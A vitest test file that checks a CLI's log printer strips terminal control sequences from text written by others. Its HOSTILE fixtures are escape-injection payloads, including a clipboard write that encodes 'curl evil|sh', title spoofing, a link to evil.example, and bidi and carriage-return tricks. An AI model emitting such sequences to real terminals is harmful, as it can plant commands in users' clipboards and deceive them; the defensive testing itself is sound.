import { Writable } from 'node:stream'
import { describe, expect, it } from 'vitest'
import type { WorkerClient } from '../../client/worker-client.ts'
import type { LogLine } from '../../contract/agent/log-line.ts'
import { printLogs } from '../commands/workspaces/logs.ts'
import { say } from '../terminal-streams.ts'
import { sayJson } from './json.ts'
import { harmlessText } from './plain-text.ts'

const ESC = '\u{1b}'
/** Puts a command into the clipboard, names the window, empties the screen, moves the cursor, asks who is there; in C0 and in C1. */
const HOSTILE = [
  `${ESC}]52;c;Y3VybCBldmlsfHNoCg==\u{7}`,
  `${ESC}]0;bank\u{7}`,
  `${ESC}]8;;https://evil.example${ESC}\\here${ESC}]8;;${ESC}\\`,
  `${ESC}[2J${ESC}[3A${ESC}[?1049h${ESC}[>4;2m${ESC}[6n${ESC}c${ESC}P+q544e${ESC}\\`,
  '\u{9d}52;c;Y3VybA==\u{9c}\u{9b}2J\u{8}\u{7f}\u{202e}\u{2066}\u{200f}\u{2028}',
  `password\rharmless`,
]
/** All that a terminal would obey, beside line ends, tabs and colours. */
const OBEYED = new RegExp(
  String.raw`[^\P{Cc}\n\t${ESC}]|${ESC}(?!\[[\d;:]*m)|[\u{200e}\u{200f}\u{2028}-\u{202e}\u{2066}-\u{2069}]`,
  'u',
)

function paper(isTTY: boolean): { stream: NodeJS.WriteStream; text(): string } {
  let text = ''
  const write = (chunk: Buffer, _encoding: string, done: () => void): void => {
    text += chunk.toString()
    done()
  }
  const stream = Object.assign(new Writable({ write }), { isTTY }) as unknown as NodeJS.WriteStream
  return { stream, text: () => text }
}

/** A worker whose workspace has written these lines. */
function writing(lines: readonly string[]): WorkerClient {
  const told = lines.map((text): LogLine => ({ at: '2026-01-01T00:00:00.000Z', source: 'setup', text }))
  const workspaces = {
    logs: () => Promise.resolve(`${lines.join('\n')}\n`),
    followLogs: () => Promise.resolve(told.values()),
  }
  return { api: { workspaces } } as unknown as WorkerClient
}

const OPTIONS = { name: 'w', tail: 10, json: false }

describe('text that others wrote', () => {
  it.each(HOSTILE)('%j is obeyed by no terminal, whatever prints it', (text) => {
    const { stream, text: printed } = paper(true)
    say(stream, `before ${text} after`)
    expect(printed()).toMatch(/^before .* after/s)
    expect(printed()).not.toMatch(OBEYED)
  })

  it('keeps its lines, tabs and colours, which end with it; what would be written over is seen', () => {
    expect(harmlessText(`a\tb\r\n${ESC}[1;38:5:9mred`)).toBe(`a\tb\n${ESC}[1;38:5:9mred${ESC}[0m`)
    expect(harmlessText('secret\rharmless')).toBe('secret\nharmless')
    expect(harmlessText(`10 %${ESC}[K`)).toBe('10 %')
  })

  it('is looked through once, however it is made', () => {
    const pieces = [`${ESC}]`, `${ESC}[0`, ESC, '\r', `${ESC}P${'x'.repeat(100)}`]
    for (const piece of pieces) expect(harmlessText(piece.repeat(50_000))).not.toMatch(OBEYED)
  })

  it('stands escaped in JSON, which means the same', () => {
    const { stream, text } = paper(true)
    sayJson(stream, HOSTILE)
    expect(text()).not.toMatch(OBEYED)
    expect(JSON.parse(text())).toEqual(HOSTILE)
  })
})

describe('`ws logs`', () => {
  it.each([true, false])('prints nothing on a terminal that it would obey (follow: %s)', async (follow) => {
    const { stream, text } = paper(true)
    await printLogs(writing(HOSTILE), { ...OPTIONS, follow, stdout: stream })
    expect(text()).toContain('harmless')
    expect(text()).not.toMatch(OBEYED)
  })

  it('gives a pipe what was written', async () => {
    const { stream, text } = paper(false)
    await printLogs(writing(HOSTILE), { ...OPTIONS, follow: false, stdout: stream })
    expect(text()).toBe(`${HOSTILE.join('\n')}\n`)
  })
})
